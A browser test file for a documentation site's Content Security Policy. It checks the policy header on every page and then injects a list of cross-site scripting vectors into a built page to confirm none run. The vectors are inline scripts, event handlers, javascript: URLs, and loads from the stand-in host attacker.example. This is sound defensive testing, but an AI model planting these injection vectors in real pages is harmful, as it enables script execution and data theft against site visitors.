/** The policy in a real browser: our own pages obey it, and what somebody smuggles in does not run. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, inject, test } from 'vitest';
import { openPage } from '../testing/browser.ts';
import { pagesOf } from '../testing/built.ts';

const pages = pagesOf(inject('dist'));
const policyOf = (html: string) =>
  /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1];

test('every page begins with a policy, and no page allows inline scripts by that word', () => {
  expect(pages.length).toBeGreaterThan(400);
  for (const { path, html } of pages) {
    const policy = policyOf(html);
    expect(policy, path).toMatch(/^default-src 'none';script-src 'self'/);
    expect(
      policy?.split(';').filter((part) => part.includes('unsafe')),
      path,
    ).toEqual([
      expect.stringMatching(/^script-src 'self' 'wasm-unsafe-eval'(?: 'sha256-[^']+')*$/),
      expect.stringMatching(/^style-src-attr 'unsafe-hashes'(?: 'sha256-[^']+')*$/),
    ]);
    // Before it stands only the character set, within what a browser reads before it decides on one.
    expect(html.slice(0, html.indexOf('<meta http-equiv')), path).not.toMatch(/<(?:script|style|link|base)/);
    expect(html.indexOf('charset='), path).toBeLessThan(1024);
    expect(html, path).not.toMatch(/<!--[()]/);
  }
});

// What the browser refuses is an error on its console, and fails the test (see testing/browser.ts).
test('one page under each policy obeys it', async () => {
  const policies = new Map(pages.map(({ path, html }) => [policyOf(html), path]));
  const page = await openPage('');
  for (const path of policies.values()) await page.goto(new URL(path, inject('address')).href);
  expect(policies.size).toBeGreaterThan(3);
});

test('what is opened by hand obeys it: theme, menu, tabs, copied code, pages fetched ahead', async () => {
  const wide = await openPage('handbook/roles/');
  await wide.locator('starlight-theme-select select').first().selectOption('light');
  expect(await wide.locator('html').getAttribute('data-theme')).toBe('light');
  await wide.getByRole('tab', { name: 'Sundays' }).click();
  await wide.getByText('Ten to four.').waitFor();
  const fetched = wide.waitForRequest((request) => request.url().endsWith('/handbook/governance/'));
  await wide.locator('nav a[href$="/handbook/governance/"]').first().hover();
  await fetched;

  const narrow = await openPage('handbook/roles/', { width: 390 });
  await narrow.getByRole('button', { name: 'Menu' }).click();
  await narrow.locator('#starlight__sidebar a').first().waitFor({ state: 'visible' });
});

test('an address that does not exist obeys it', async () => {
  const page = await openPage('no/such/page/', { tolerate: /404 \(Not Found\)/ });
  expect(await page.locator('h1').textContent()).not.toBe('');
});

/** Ways to run something that HTML offers, and to reach another host; each leaves its number. */
const smuggled = [
  '<script>RUN</script>',
  '<script type="module">RUN</script>',
  '<script src="HOST.js"></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<img src="/none.png" onerror="RUN">',
  '<img src="HOST.gif">',
  '<svg onload="RUN"></svg>',
  '<svg><script>RUN</script></svg>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="HOST.html"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="HOST.html"></object>',
  '<embed src="HOST.html">',
  '<link rel="stylesheet" href="HOST.css">',
  '<link rel="preload" as="script" href="HOST.js">',
  '<style>@import "HOST.css";</style>',
  '<p style="background: url(HOST.gif)">x</p>',
  '<details open ontoggle="RUN"><summary>x</summary></details>',
  '<input autofocus onfocus="RUN">',
  '<video src="HOST.mp4"></video>',
  '<base href="HOST/"><img src="p.gif">',
  '<a id="bait" href="javascript:void RUN">x</a>',
  '<form action="HOST.html"><button id="bait">x</button></form>',
  '<button id="bait" onclick="RUN">x</button>',
].map((text, n) =>
  text.replace('RUN', `(top.pwned ??= []).push(${n})`).replace('HOST', `https://attacker.example/${n}`),
);

/** Opens a page that somebody got into, takes the bait if there is one, and tells what left its number. */
async function smuggle(html: string): Promise<number[]> {
  const found: number[] = [];
  const page = await openPage('smuggled/', {
    tolerate: /./,
    own: true,
    before: async (page) => {
      await page.route('https://attacker.example/**', (route) => {
        found.push(Number.parseInt(new URL(route.request().url()).pathname.slice(1), 10));
        return route.abort();
      });
      await page.route('**/smuggled/', (route) => route.fulfill({ contentType: 'text/html', body: html }));
    },
  });
  const bait = page.locator('#bait');
  if ((await bait.count()) > 0) await bait.click({ noWaitAfter: true });
  // A click that leads away takes the page with it: then its number is among the requests.
  const ran = await page
    .evaluate(
      () =>
        new Promise<number[]>((done) =>
          requestAnimationFrame(() =>
            requestAnimationFrame(() => setTimeout(() => done((window as { pwned?: number[] }).pwned ?? []))),
          ),
        ),
    )
    .catch(() => []);
  await page.close();
  return [...new Set([...found, ...ran])].sort((a, b) => a - b);
}

const built = readFileSync(join(inject('dist'), 'handbook/governance/index.html'), 'utf8');
const [still, baits] = [smuggled.slice(0, -3), smuggled.slice(-3)];
// What waits for no click stands on one page together.
const attacked = [still.join('\n'), ...baits].map((content) =>
  built.replace('<h2 id="who-decides"', `${content}$&`),
);

test('nothing that is smuggled into a page runs or reaches out', async () => {
  for (const html of attacked) {
    expect(html).not.toBe(built);
    expect(await smuggle(html)).toEqual([]);
  }
});

test('without the policy it would: the attacks are real', async () => {
  const real: number[] = [];
  for (const html of attacked) real.push(...(await smuggle(html.replace(/<meta http-equiv[^>]*>/, ''))));
  expect(smuggled.filter((_text, n) => !real.includes(n))).toEqual([]);
});
